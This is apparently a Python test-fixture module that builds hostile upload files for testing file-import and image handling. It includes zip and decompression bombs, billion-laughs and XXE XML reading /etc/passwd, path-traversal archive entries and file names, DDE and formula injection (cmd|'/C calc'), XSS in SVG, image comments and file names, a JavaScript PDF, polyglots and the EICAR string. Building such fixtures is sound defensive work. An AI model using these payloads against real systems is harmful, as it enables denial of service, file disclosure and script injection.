"""Files that somebody might send to do harm, made here by code: each name says what it tries."""

import base64
import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from PIL import Image

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1 if n > 1 else str()};" * 10}">' for n in range(1, 10))
    + "]>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>'
PLAIN_HEAD = '<?xml version="1.0"?>'
MEGABYTE = 1024 * 1024

Made = Callable[[], bytes]


def book(
    sheet: str | bytes = "",
    *,
    strings: str = "",
    head: str = PLAIN_HEAD,
    more: dict[str, bytes] | None = None,
) -> bytes:
    """A workbook of Excel, put together by hand."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}.sharedStrings+xml"/></Types>',
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{relation}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/_rels/workbook.xml.rels": "<Relationships "
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{relation}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="r2" Type="{relation}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/workbook.xml": f'{head}<workbook xmlns="{MAIN}" xmlns:r="{relation}"><sheets>'
        '<sheet name="Register" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/sharedStrings.xml": f'{head}<sst xmlns="{MAIN}">{strings or "<si><t>Title</t></si>"}</sst>',
        "xl/worksheets/sheet1.xml": sheet if isinstance(sheet, bytes) else sheet_of(sheet, head=head),
    }
    return package({**parts, **(more or {})})


def sheet_of(rows: str, *, head: str = PLAIN_HEAD) -> str:
    return f'{head}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'


def words(*cells: str) -> str:
    """A row of cells with words of their own."""
    return "<row>" + "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in cells) + "</row>"


def package(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def lying(content: bytes) -> bytes:
    """The same package, in which every part says that it unpacks to a hundred bytes."""
    found = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = found.find(mark)
        while at >= 0:
            found[at + offset : at + offset + 4] = struct.pack("<I", 100)
            at = found.find(mark, at + 4)
    return bytes(found)


def open_document(table: str) -> bytes:
    spaces = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{short}:1.0"'
        for short in ("office", "table", "text")
    )
    content = (
        f"<office:document-content {spaces}><office:body><office:spreadsheet>"
        f'<table:table table:name="A">{table}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    mimetype = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    return package({"mimetype": mimetype, "content.xml": content, "META-INF/manifest.xml": manifest})


def bomb_of_spaces(size: int) -> bytes:
    """A sheet with one word and many megabytes of nothing behind it."""
    return sheet_of(words("Title") + words("x") + " " * size).encode()


TABLES: dict[str, Made] = {
    "xlsx, 200 MB of spaces": lambda: book(bomb_of_spaces(200 * MEGABYTE)),
    "xlsx, parts that lie about their size": lambda: lying(book(bomb_of_spaces(100 * MEGABYTE))),
    "xlsx, a bomb inside a bomb": lambda: book(
        words("Title"),
        more={f"xl/embeddings/{n}.xlsx": package({"a": b"\0" * 10 * MEGABYTE}) for n in range(5)},
    ),
    "xlsx, two million cells that name one long text": lambda: book(
        ("<row>" + '<c t="s"><v>0</v></c>' * 16_000 + "</row>") * 125,
        strings=f"<si><t>{'x' * 30_000}</t></si>",
    ),
    "xlsx, a text of 50 MB": lambda: book(words("Title") + words("x" * 50 * MEGABYTE)),
    "xlsx, many rows": lambda: book(words("Title") + words("x") * 100_000),
    "xlsx, billion laughs": lambda: book(
        '<row><c t="s"><v>0</v></c></row>', strings="<si><t>&a9;</t></si>", head=LAUGHS
    ),
    "xlsx, a file of the server": lambda: book(
        '<row><c t="s"><v>0</v></c></row>' * 2, strings="<si><t>&a9;</t></si>", head=XXE
    ),
    "xlsx, a far away cell": lambda: book(
        '<row r="1"><c r="A1"><v>1</v></c><c r="XFD1048576"><v>1</v></c></row>'
    ),
    "xlsx, a row beyond the last": lambda: book(
        '<row r="99999999999"><c r="ZZZZZ99999999999"><v>1</v></c></row>'
    ),
    "xlsx, a text that is not there": lambda: book('<row><c t="s"><v>4294967295</v></c></row>'),
    "xlsx, a negative text": lambda: book('<row><c t="s"><v>-1</v></c></row>'),
    "xlsx, numbers that are none": lambda: book(
        "<row><c><v>1e999</v></c><c><v>nan</v></c><c><v>0x7</v></c></row>"
    ),
    "xlsx, dates before and after all time": lambda: book(
        '<row><c t="d"><v>0000-00-00</v></c><c t="d"><v>999999-01-01T00:00:00</v></c></row>'
    ),
    "xlsx, names that lead out": lambda: book(
        words("Title") + words("x"), more={"../../../../tmp/genba-slip": b"x", "/etc/genba-slip": b"x"}
    ),
    "xlsx, ten thousand parts": lambda: book(words("Title"), more={f"x/{n}": b"" for n in range(10_000)}),
    "xlsx, a sheet that leads out": lambda: book(
        words("Title"), more={"xl/externalLinks/externalLink1.xml": b'<a href="file:///etc/passwd"/>'}
    ),
    "xlsm, a macro": lambda: book(words("Title") + words("x"), more={"xl/vbaProject.bin": b"Auto_Open"}),
    "xlsx, formulas and DDE": lambda: book(
        words("Title", "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
        + '<row><c><f>WEBSERVICE("http://127.0.0.1:1/"&amp;A1)</f><v>7</v></c></row>'
    ),
    "xlsx, control characters in a name": lambda: book(words("Ti\ufffdtle\u202e", "a" * 500)),
    "xlsx, sixteen thousand columns": lambda: book(("<row>" + "<c><v>1</v></c>" * 16_384 + "</row>") * 20),
    "xlsx, not XML": lambda: book(b"\xff\xfe" * 500),
    "xlsx, empty parts": lambda: book(b"", more={"xl/workbook.xml": b""}),
    "xlsx, cut in the middle": lambda: book(words("Title") * 100)[:900],
    "xlsb, garbage": lambda: package({"xl/workbook.bin": b"\x83\x01" * 5_000}),
    "ods, repeated to the end of memory": lambda: open_document(
        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
        'table:number-columns-repeated="16384" office:value-type="string">'
        "<text:p>x</text:p></table:table-cell></table:table-row>"
    ),
    "ods, repeated a negative number of times": lambda: open_document(
        '<table:table-row table:number-rows-repeated="-1">'
        '<table:table-cell table:number-columns-repeated="-7"/></table:table-row>'
    ),
    "xls, garbage behind the right beginning": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 5_000,
    "xls, sectors that go round": lambda: (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"\0\0\0\0" * 5_000
    ),
    "zip, nested": lambda: package({"a.zip": package({"b.zip": package({"c": b"\0" * MEGABYTE})})}),
    "gz, 200 MB of nothing": lambda: gzip.compress(b"\0" * 200 * MEGABYTE, 1),
    "gz, a table of many rows": lambda: gzip.compress(b"title;state\n" + b"x;open\n" * 200_000, 1),
    "gz, inside gz": lambda: gzip.compress(gzip.compress(gzip.compress(b"title;state\nx;y\n"))),
    "gz, a spreadsheet inside": lambda: gzip.compress(book(words("Title"))),
    "csv, one line of 20 MB": lambda: b"x" * 20 * MEGABYTE,
    "csv, a million columns": lambda: b"a," * 1_000_000 + b"\n" + b"1," * 1_000_000,
    "csv, two thousand columns": lambda: (b"a," * 2_000 + b"\n") * 10,
    "csv, lines of ever more columns": lambda: b"\n".join(b"1," * n for n in range(1, 3_000)),
    "csv, only quotation marks": lambda: b'"' * 2_000_000,
    "csv, quotation marks that never close": lambda: b'title,state\n"open' + b"\nx,y" * 400_000,
    "csv, a quotation mark in each line": lambda: b"title,state\n" + b'x"y,"z"w\n' * 100_000,
    "csv, only delimiters": lambda: (b";" * 500 + b"\n") * 2_000,
    "csv, only line ends": lambda: b"\r\n\n\r" * 500_000,
    "csv, NUL in each cell": lambda: b"title,state\n" + b"a\0b,c\0\n" * 2_000,
    "csv, half a surrogate": lambda: b"title,state\n\xed\xa0\x80,x\n",
    "csv, UTF-16 of odd length": lambda: "title;state\nÄ;Ö\n".encode("utf-16") + b"\0",
    "csv, UTF-32": lambda: "title;state\nÄ;Ö\n".encode("utf-32"),
    "csv, UTF-7": lambda: "title;state\n<script>;Ö\n".encode("utf-7"),
    "csv, Shift-JIS": lambda: "件名;状態\n表示;能\n".encode("shift_jis"),
    "csv, EBCDIC": lambda: "title;state\nabc;def\n".encode("cp500"),
    "csv, formulas and DDE": lambda: b"title,state\n=cmd|'/C calc'!A0,@SUM(1)\n+1+1,-2+3\n\t=1,\r=2\n",
    "csv, names that turn round": "ti\u202eeltit,state\n\u2066x\u2069,y\n".encode,
    "csv, dates that are none": lambda: b"title,date\nx,99.99.9999\ny,0000-00-00\nz,31.2.2021\nw,1e400\n",
    "csv, numbers without end": lambda: (
        b"title,amount\nx," + b"9" * 100_000 + b"\ny,1e999999999\nz,\xd9\xa1\n"
    ),
    "svg, with a script": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "xml, a file of the server": f"{XXE}<a>&a9;</a>".encode,
    "html, that calls itself a table": lambda: b"<html><table><tr><td>title</td></tr></table></html>",
    "pdf": lambda: PDF,
    "nothing at all": lambda: b"",
    "a polyglot of picture and table": lambda: b"GIF89a=1;title;state\nx;y;z\n",
}


def picture(kind: str = "PNG", size: tuple[int, int] = (8, 8), **more: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, kind, **more)
    return out.getvalue()


def chunk(name: bytes, content: bytes) -> bytes:
    check = struct.pack(">I", zlib.crc32(name + content))
    return struct.pack(">I", len(content)) + name + content + check


def png(width: int, height: int, *, pixels: bytes = b"", extra: bytes = b"") -> bytes:
    """A PNG that says it is this large, whatever pixels it has."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + head + extra + chunk(b"IDAT", zlib.compress(pixels, 1)) + chunk(b"IEND", b"")
    )


PDF = (
    b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
SCRIPT = b"<script>alert(document.domain)</script>"


def frames() -> bytes:
    out = io.BytesIO()
    pages = [Image.new("P", (300, 300), n % 250) for n in range(400)]
    pages[0].save(out, "GIF", save_all=True, append_images=pages[1:])
    return out.getvalue()


PICTURES: dict[str, Made] = {
    "png, fifty thousand pixels a side": lambda: png(50_000, 50_000),
    "png, more pixels than there are numbers": lambda: png(2**31 - 1, 2**31 - 1),
    "png, no pixels": lambda: png(0, 0),
    "png, a bomb of 12,000 by 12,000": lambda: png(12_000, 12_000, pixels=b"\0" * 150 * MEGABYTE),
    "png, 5,600 by 5,600, which is just allowed": lambda: picture("PNG", (5_600, 5_600), compress_level=1),
    "png, a comment that unpacks to 100 MB": lambda: png(
        1, 1, pixels=b"\0" * 4, extra=chunk(b"zTXt", b"a\0\0" + zlib.compress(b"x" * 100 * MEGABYTE, 1))
    ),
    "png, a profile that unpacks to 100 MB": lambda: png(
        1, 1, pixels=b"\0" * 4, extra=chunk(b"iCCP", b"a\0\0" + zlib.compress(b"x" * 100 * MEGABYTE, 1))
    ),
    "png, with a script in a comment": lambda: png(
        1, 1, pixels=b"\0" * 4, extra=chunk(b"tEXt", b"Comment\0" + SCRIPT)
    ),
    "png, with a script behind its end": lambda: picture() + SCRIPT,
    "png, cut in the middle": lambda: picture("PNG", (400, 400))[:300],
    "png, wrong check sums": lambda: picture().replace(b"IDAT", b"IDAX"),
    "jpeg, with a program behind its end": lambda: (
        picture("JPEG") + package({"a.class": b"\xca\xfe\xba\xbe"})
    ),
    "jpeg, with a script in a comment": lambda: picture("JPEG", comment=SCRIPT),
    "jpeg, cut in the middle": lambda: picture("JPEG", (400, 400))[:500],
    "jpeg, only its beginning": lambda: b"\xff\xd8\xff",
    "jpeg, 65,000 pixels a side": lambda: picture("JPEG").replace(
        b"\xff\xc0\x00\x11\x08\x00\x08\x00\x08", b"\xff\xc0\x00\x11\x08\xfd\xe8\xfd\xe8"
    ),
    "jpeg, EXIF that goes round": lambda: picture(
        "JPEG", exif=b"Exif\0\0II*\0\x08\0\0\0\xff\xff" + b"\x08\0" * 200
    ),
    "gif, that is also a script": lambda: b"GIF89a/*" + b"\0" * 50 + b"*/=1;alert(1);",
    "gif, that is also a page": lambda: b"GIF89a" + SCRIPT * 20,
    "gif, four hundred frames": frames,
    "webp, cut in the middle": lambda: picture("WEBP", (200, 200))[:60],
    "webp, a length that lies": lambda: b"RIFF\xff\xff\xff\xffWEBPVP8 \xff\xff\xff\xff" + b"\0" * 60,
    "tiff": lambda: picture("TIFF"),
    "bmp": lambda: picture("BMP"),
    "ico": lambda: picture("ICO", (16, 16)),
    "postscript": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd)(r)file",
    "heic": lambda: b"\0\0\0\x18ftypheic" + b"\0" * 100,
    "svg, with a script": TABLES["svg, with a script"],
    "svg, behind a byte order mark": lambda: b"\xef\xbb\xbf" + TABLES["svg, with a script"](),
    "html": lambda: b"<!doctype html>" + SCRIPT,
    "html, behind white space and a comment": lambda: b" \n\t<!-- -->" + SCRIPT,
    "a pdf": lambda: PDF,
    "a program": lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 100,
    "a program for Windows": lambda: b"MZ\x90\0" + b"\0" * 100,
    "a shell script": lambda: b"#!/bin/sh\nid\n",
    "a link of Windows": lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60,
    "a Word file with a macro": lambda: package({"[Content_Types].xml": "", "word/vbaProject.bin": b"x"}),
    "a Word file with names that lead out": lambda: package(
        {"[Content_Types].xml": "", "word/document.xml": "", "../../slip": b"x"}
    ),
    "nothing at all": lambda: b"",
    "a test virus": lambda: base64.b64decode(
        "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo="
    ),
}

NAMES = [
    "../../../etc/passwd",
    "..\\..\\boot.ini",
    "/etc/cron.d/x",
    "C:\\x.png",
    "a\0.png",
    "a\u202egnp.exe",
    "a" * 400 + ".png",
    "<img src=x onerror=alert(1)>.png",
    '";alert(1);".png',
    "a\r\nSet-Cookie: x=1.png",
    ".htaccess",
    "con.png",
    " ",
    "x.php.png",
]
"""Names that files come with."""


def each(made: dict[str, Made]) -> Iterator[tuple[str, bytes]]:
    """One after the other, so that never two of them are in memory."""
    for name, make in made.items():
        yield name, make()
